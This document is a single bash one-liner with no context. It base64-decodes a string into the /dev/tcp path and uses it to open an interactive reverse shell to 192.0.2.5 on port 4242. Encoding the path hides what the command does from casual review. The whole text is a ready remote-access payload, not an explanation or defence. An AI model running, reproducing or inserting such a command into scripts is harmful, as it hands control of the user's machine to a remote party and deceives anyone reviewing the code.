x=$(echo L2Rldi90Y3A= | base64 -d); bash -c "bash -i >& $x/192.0.2.5/4242 0>&1"
